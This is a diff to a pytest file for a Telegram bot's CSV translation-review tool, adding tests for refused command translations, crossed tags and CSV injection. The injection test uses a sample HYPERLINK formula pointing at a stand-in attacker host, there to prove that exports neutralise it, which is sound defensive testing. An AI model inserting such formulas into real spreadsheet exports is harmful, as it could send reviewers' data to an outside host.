@@ -15,6 +15,7 @@ from babel.messages.catalog import Catalog, Message
 
 from bot.config import SHIPPED_LOCALES
 from bot.i18n import LOCALES_DIR
+from bot.i18n.check import commands
 from bot.i18n.review import (
     AREAS,
     CORRECTED,
@@ -197,7 +198,9 @@ def test_a_correction_that_breaks_the_message_is_refused(locales: Path) -> None:
     reasons = dict(re.findall(r"\((m[0-9a-f]+)\): ([^:]+):", "\n".join(result.refused)))
     assert reasons == {
         lost[0]: f"drops {lost[4][lost[4].index('{') : lost[4].index('}') + 1]}",
-        command[0]: "/shift must stay as it is (a command is typed in English)",
+        command[
+            0
+        ]: f"{min(commands(command[4]))} must stay as it is (a command is typed in English)",
         brace[0]: "a { or } that is not part of a placeholder",
     }
     assert (locales / "ar/LC_MESSAGES/bot.po").read_bytes() == before
@@ -383,3 +386,63 @@ def test_a_row_pasted_twice_counts_once_and_comments_reach_the_coordinator(
     assert result.comments == [f"line 3 ({row[0]}): كلمة أوضح؟"]
     assert entry(load_catalog(locales, "ar"), row[4], row[2] or None).string == f"الأولى {name}"
     assert "comment: line 3" in result.summary()
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text(locales: Path) -> None:
+    """CSV injection: a cell starting with = + - @ is a formula once the reviewer opens the
+    file (a link that sends the sheet away). It is exported behind an apostrophe, which the
+    import takes off again."""
+    catalog = load_catalog(locales, "ar")
+    plain = next(m for m in catalog if m.id and not m.pluralizable and not set("{</&") & set(m.id))
+    formula = '=HYPERLINK("https://evil.example/","ok")'
+    plain.string = formula
+    save_catalog(locales, "ar", catalog)
+    head, rows = export(locales)
+    for row in head + rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    row = find(rows, lambda row: row[4] == plain.id)
+    assert row[6] == "'" + formula
+    row[column(head, REVIEWED)] = "x"
+
+    result = import_review(save(locales, head, rows), locales_dir=locales)
+
+    assert (result.reviewed, result.corrected, result.now_reviewed) == (1, 0, 1)
+    assert not result.skipped
+    assert entry(load_catalog(locales, "ar"), plain.id).string == formula
+
+
+def test_a_correction_that_translates_a_command_or_its_word_is_refused(locales: Path) -> None:
+    head, rows = export(locales)
+    reviewed, corrected = column(head, REVIEWED), column(head, CORRECTED)
+    usage = find(
+        rows, lambda row: not row[3] and "/shift start" in row[4] and "/shift end" in row[4]
+    )
+    broken = {
+        "sub-command": usage[6].replace("/shift start", "/shift بدء"),
+        "glued": usage[6].replace("/shift start", "/shiftstart"),
+        "added": usage[6] + " /مناوبة",
+    }
+    for kind, text in broken.items():
+        usage[corrected], usage[reviewed] = text, "x"
+        before = (locales / "ar/LC_MESSAGES/bot.po").read_bytes()
+
+        result = import_review(save(locales, head, rows), locales_dir=locales)
+
+        assert (result.reviewed, result.corrected) == (0, 0), kind
+        assert len(result.refused) == 1, kind
+        assert (locales / "ar/LC_MESSAGES/bot.po").read_bytes() == before, kind
+
+
+def test_a_correction_with_its_tags_crossed_is_refused() -> None:
+    """The same tags in an order Telegram refuses: the message would be lost."""
+    catalog = Catalog(locale="ar")
+    catalog.add("<b>{name}</b> joined.", "<b>{name}</b> انضم.", flags=["fuzzy"])
+    message = entry(catalog, "<b>{name}</b> joined.")
+    row = ReviewedRow(2, row_id(message, 0), message.string, True, "</b>{name}<b> انضم.", "")
+
+    result = merge(catalog, "ar", [row])
+
+    assert result.corrected == 0
+    assert "tags crossed" in "\n".join(result.refused)
+    assert message.fuzzy
